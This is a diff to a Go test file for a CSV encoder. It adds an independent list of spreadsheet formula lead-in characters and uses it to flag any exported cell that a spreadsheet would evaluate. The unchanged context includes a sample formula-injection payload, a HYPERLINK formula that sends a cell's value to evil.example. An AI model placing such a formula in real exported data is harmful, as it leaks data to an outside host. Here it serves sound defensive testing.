@@ -20,6 +20,11 @@ import (
 // CR, hides one) in Excel, LibreOffice or Google Sheets.
 var formulaLeadIns = []string{"=1+1", "+1", "-1", "@A1", "\t=1+1", "\r=1+1"}
 
+// spreadsheetLeadIns are the first characters a spreadsheet evaluates (or
+// hides a formula behind), written out here rather than taken from the
+// encoder under test.
+const spreadsheetLeadIns = "=+-@\t\r\x00"
+
 const hyperlink = `=HYPERLINK("http://evil.example/?"&A1,"Open")`
 
 // csvCells reads a CSV body into its header and rows, failing on a body
@@ -32,7 +37,7 @@ func csvCells(t *testing.T, name, body string) ([]string, [][]string) {
 	}
 	for i, row := range recs[1:] {
 		for j, cell := range row {
-			if cell != "" && csvsafe.IsLead(cell[0]) {
+			if cell != "" && strings.ContainsRune(spreadsheetLeadIns, rune(cell[0])) {
 				t.Errorf("%s row %d, column %s: %q is a formula to a spreadsheet", name, i+1, recs[0][j], cell)
 			}
 		}
